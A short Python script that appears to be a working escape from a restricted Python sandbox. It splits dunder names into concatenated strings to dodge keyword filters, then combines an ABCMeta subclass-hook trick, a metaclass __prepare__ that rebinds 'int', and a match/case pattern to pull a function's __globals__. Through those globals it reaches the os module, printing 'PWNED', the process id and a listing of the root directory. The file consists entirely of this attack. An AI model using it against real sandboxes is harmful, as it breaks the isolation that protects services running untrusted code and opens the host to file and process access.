import abc
import json

def hook(cls, C):
    return True

K = '__subclass' + 'hook__'
MA = '__match' + '_args__'
GL = '__glo' + 'bals__'
ns = {K: classmethod(hook), MA: (GL,)}
args = ('X', (), ns)
X = abc.ABCMeta(*args)

class M(abc.ABCMeta):
    @classmethod
    def __prepare__(mcls, name, bases, **kw):
        return {'int': X}

class Outer(metaclass=M):
    target = type(json).__init__
    match target:
        case int(g):
            os_ = g['o' + 's']
            print("PW" + "NED", os_.getpid(), sorted(os_.listdir('/'))[:8])
        case _:
            print("nomatch")
